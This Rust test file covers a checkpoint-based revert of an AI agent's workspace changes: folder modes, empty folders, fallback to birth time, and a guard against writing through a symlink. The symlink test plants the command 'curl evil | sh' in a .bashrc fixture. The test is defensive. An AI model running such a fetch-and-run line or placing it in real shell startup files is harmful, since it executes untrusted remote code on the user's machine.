//! Folders in a revert, judged by what the checkpoints recorded.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use super::manifest::Manifest;
use super::rewind;
use super::tests::{open, step};
use super::*;

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o7777
}

fn set_mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Takes back the step from `before` to `after`, the workspace as it is.
fn revert(checkpoints: &mut Checkpoints, root: &Path, before: &str, after: &str) -> rewind::Plan {
    let now = checkpoints.take().unwrap();
    let store = checkpoints.store();
    let now = store.manifest(&now.id).unwrap();
    let plan = rewind::plan(store, &[step(before, after)], &now).unwrap();
    let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
    assert!(applied.written && applied.failed.is_empty(), "{applied:?}");
    plan
}

#[test]
fn the_persons_empty_folder_stays_whatever_its_birth_time_says() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let root = work.path();
    // The person's empty folders: a mount point, a shared drop folder.
    std::fs::create_dir_all(root.join("mnt")).unwrap();
    std::fs::create_dir_all(root.join("drop")).unwrap();
    set_mode(&root.join("drop"), 0o1777);
    let mut checkpoints = open(data.path(), root, CheckpointSettings::default());
    let before = checkpoints.take().unwrap();
    std::fs::write(root.join("mnt/notes.txt"), "agent\n").unwrap();
    std::fs::write(root.join("drop/x"), "agent\n").unwrap();
    std::fs::create_dir_all(root.join("made/deep")).unwrap();
    std::fs::write(root.join("made/deep/y"), "agent\n").unwrap();
    let after = checkpoints.take().unwrap();
    let now = checkpoints.take().unwrap();
    let store = checkpoints.store();
    let now = store.manifest(&now.id).unwrap();
    let mut plan = rewind::plan(store, &[step(&before.id, &after.id)], &now).unwrap();
    // As on an overlay file system, where a folder written to for the
    // first time is born again: every folder looks made since.
    plan.since = Some(std::time::UNIX_EPOCH);
    let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
    assert!(applied.written && applied.failed.is_empty(), "{applied:?}");
    assert!(!root.join("mnt/notes.txt").exists());
    assert!(root.join("mnt").is_dir(), "the person's folder was removed");
    assert!(
        root.join("drop").is_dir(),
        "the person's folder was removed"
    );
    assert_eq!(mode(&root.join("drop")), 0o1777);
    assert!(!root.join("made").exists(), "the agent's folders stayed");
}

#[test]
fn a_folder_the_agent_removed_comes_back_with_its_mode_and_a_mode_it_changed_too() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let root = work.path();
    for folder in ["cache/empty", "private", "shared", "mine"] {
        std::fs::create_dir_all(root.join(folder)).unwrap();
    }
    set_mode(&root.join("cache/empty"), 0o1777);
    set_mode(&root.join("private"), 0o700);
    set_mode(&root.join("mine"), 0o700);
    std::fs::write(root.join("shared/keep.txt"), "x\n").unwrap();
    let mut checkpoints = open(data.path(), root, CheckpointSettings::default());
    let before = checkpoints.take().unwrap();
    // The agent's step: `rm -r cache`, `chmod 755 private mine`,
    // `chmod 700 shared`.
    std::fs::remove_dir_all(root.join("cache")).unwrap();
    set_mode(&root.join("private"), 0o755);
    set_mode(&root.join("mine"), 0o755);
    set_mode(&root.join("shared"), 0o700);
    let after = checkpoints.take().unwrap();
    // By hand since: `mine` is the person's business again.
    set_mode(&root.join("mine"), 0o750);
    let plan = revert(&mut checkpoints, root, &before.id, &after.id);
    assert_eq!(
        plan.lines(),
        [
            "restore cache/",
            "restore cache/empty/",
            "mode    private/  700",
            "mode    shared/  755",
            "kept    mine: its mode was changed by hand since the agent changed it; left as it is",
        ]
    );
    assert_eq!(mode(&root.join("cache/empty")), 0o1777);
    assert_eq!(mode(&root.join("private")), 0o700);
    assert_eq!(mode(&root.join("shared")), 0o755);
    assert_eq!(mode(&root.join("mine")), 0o750);
    assert!(root.join("shared/keep.txt").exists());
}

#[test]
fn an_empty_folder_the_agent_made_is_a_change_and_goes_with_the_step() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let root = work.path();
    let mut checkpoints = open(data.path(), root, CheckpointSettings::default());
    let before = checkpoints.take().unwrap();
    std::fs::create_dir_all(root.join("build/out")).unwrap();
    let after = checkpoints.take().unwrap();
    assert_ne!(before.id, after.id, "a new folder is a change");
    // The person put a file in one since: that folder stays.
    std::fs::write(root.join("build/mine.txt"), "x\n").unwrap();
    let now = checkpoints.take().unwrap();
    let store = checkpoints.store();
    let now = store.manifest(&now.id).unwrap();
    let plan = rewind::plan(store, &[step(&before.id, &after.id)], &now).unwrap();
    assert_eq!(plan.lines(), ["remove  build/", "remove  build/out/"]);
    let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
    assert!(!root.join("build/out").exists());
    assert!(root.join("build/mine.txt").exists());
    assert_eq!(applied.failed.len(), 1, "{applied:?}");
    assert!(
        applied.failed[0].reason.contains("what is in it now"),
        "{applied:?}"
    );
}

#[test]
fn checkpoints_without_folders_fall_back_to_birth_time() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let root = work.path();
    std::fs::create_dir(root.join("old")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    let mut checkpoints = open(data.path(), root, CheckpointSettings::default());
    let before = checkpoints.take().unwrap();
    std::fs::create_dir_all(root.join("new")).unwrap();
    std::fs::write(root.join("new/a"), "x\n").unwrap();
    std::fs::write(root.join("old/b"), "x\n").unwrap();
    let after = checkpoints.take().unwrap();
    // The same two checkpoints as an older offcode wrote them.
    let store = checkpoints.store();
    let files_only = |id: &str| {
        let manifest = Manifest {
            folders: None,
            ..store.manifest(id).unwrap()
        };
        store.put(&manifest.render()).unwrap().0
    };
    let (before, after) = (files_only(&before.id), files_only(&after.id));
    let now = store.manifest(&after).unwrap();
    let mut plan = rewind::plan(store, &[step(&before, &after)], &now).unwrap();
    assert_eq!(plan.lines(), ["remove  new/a", "remove  old/b"]);
    // Born before the step began: kept; since: removed.
    let old_born = std::fs::metadata(root.join("old"))
        .unwrap()
        .created()
        .unwrap();
    plan.since = Some(old_born + std::time::Duration::from_millis(10));
    let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
    assert!(applied.written && applied.failed.is_empty(), "{applied:?}");
    assert!(root.join("old").is_dir());
    let new_born = std::fs::metadata(root.join("new"));
    assert!(new_born.is_err(), "{new_born:?}");
}

#[test]
fn a_link_where_a_folder_was_is_named_and_written_through_by_nothing() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let root = work.path();
    let victim = root.join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join(".bashrc"), "# the person's\n").unwrap();
    std::fs::write(root.join("other.txt"), "before\n").unwrap();
    // Ignored as a link, kept as a folder: the checkpoints never see the
    // link that replaces it.
    std::fs::write(root.join(".gitignore"), "x\n!x/\nvictim/\n").unwrap();
    std::fs::create_dir(root.join("x")).unwrap();
    std::fs::write(root.join("x/.bashrc"), "curl evil | sh\n").unwrap();
    let mut checkpoints = open(data.path(), root, CheckpointSettings::default());
    let before = checkpoints.take().unwrap();
    std::fs::remove_dir_all(root.join("x")).unwrap();
    std::os::unix::fs::symlink("victim", root.join("x")).unwrap();
    std::fs::write(root.join("other.txt"), "after\n").unwrap();
    let after = checkpoints.take().unwrap();
    let store = checkpoints.store();
    let now = store.manifest(&after.id).unwrap();
    let plan = rewind::plan(store, &[step(&before.id, &after.id)], &now).unwrap();
    assert_eq!(
        plan.lines(),
        [
            "revert  other.txt  +1 -1",
            "restore x/.bashrc",
            "restore x/"
        ]
    );
    let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
    assert!(applied.written, "{applied:?}");
    assert_eq!(applied.failed.len(), 2, "{applied:?}");
    assert!(
        applied.failed[0].reason.contains("is no longer a folder"),
        "{applied:?}"
    );
    assert!(
        applied.failed[1]
            .reason
            .contains("a link or a file stands where the folder was"),
        "{applied:?}"
    );
    assert_eq!(
        std::fs::read(victim.join(".bashrc")).unwrap(),
        b"# the person's\n"
    );
    // The rest of the plan is carried out; nothing through the link.
    assert_eq!(std::fs::read(root.join("other.txt")).unwrap(), b"before\n");
    assert!(root.join("x").symlink_metadata().unwrap().is_symlink());
}
